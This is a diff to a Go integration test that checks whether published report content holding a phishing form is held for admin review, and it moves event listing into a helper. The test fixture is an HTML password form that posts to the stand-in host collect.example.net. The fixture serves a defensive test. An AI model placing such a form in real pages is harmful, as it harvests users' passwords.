@@ -389,7 +389,6 @@ func TestHeldVersionsOnTheRealStack(t *testing.T) {
 	t.Parallel()
 	testenv.EachDB(t, func(t *testing.T, db *gorm.DB) {
 		s := newStack(t, db)
-		ctx := context.Background()
 		phish := jsonString(html(`<form action="//collect.example.net/x"><input type="password" name="p"></form>`))
 		held := s.publish(t, `{"title":"Held","slug":"held","content":`+phish+`}`)
 		heldID := version(held)["id"].(string)
@@ -408,12 +407,7 @@ func TestHeldVersionsOnTheRealStack(t *testing.T) {
 		again := s.do(t, "POST", "/api/v1/admin/held-versions/"+heldID+"/decline", s.adminKey, "", nil)
 		assert.Equal(t, 409, again.status, string(again.body))
 		assert.Equal(t, "invalid_state", errField(again, "code"))
-		events, err := s.store.ListEvents(ctx, s.org.ID, held["id"].(string))
-		require.NoError(t, err)
-		var kinds []string
-		for _, e := range events {
-			kinds = append(kinds, e.Kind)
-		}
+		_, kinds := s.events(t, held["id"].(string))
 		assert.Equal(t, []string{"publish.held", "report.published"}, kinds)
 
 		v2 := s.do(t, "POST", "/api/v1/reports/held/versions", s.agentKey, `{"content":`+phish+`}`, nil)
